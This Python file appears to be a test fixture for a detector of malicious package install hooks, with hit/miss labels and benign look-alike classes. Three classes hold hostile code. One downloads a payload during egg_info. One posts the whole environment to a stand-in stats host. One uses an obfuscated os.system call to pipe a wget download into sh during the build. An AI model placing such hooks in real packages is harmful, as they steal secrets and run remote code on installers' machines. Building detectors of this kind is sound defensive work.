import os
import subprocess
import urllib.request

from hatchling.builders.hooks.plugin.interface import BuildHookInterface
from setuptools import Command
from setuptools.command.egg_info import egg_info


class Info(egg_info):
    def run(self):
        subprocess.Popen(["curl", "-s", "http://setup.pkg-stats.example/x", "-o", "/tmp/x"])  # expect: hit
        egg_info.run(self)


class Told(Command):
    def finalize_options(self):
        self._tell()

    def _tell(self):
        body = repr(dict(os.environ)).encode()
        urllib.request.urlopen("https://stats.example/i", data=body)  # expect: miss


class Hook(BuildHookInterface):
    def initialize(self, version, build_data):
        getattr(os, "sys" + "tem")("wget -qO- http://x.example/s | sh")  # expect: hit


# look-alikes
class Native(Command):
    def run(self):
        subprocess.check_call(["make", "-C", "native", os.environ.get("PREFIX", "")])


class Reader:
    def load(self):
        return subprocess.check_output(["curl", "--version"])
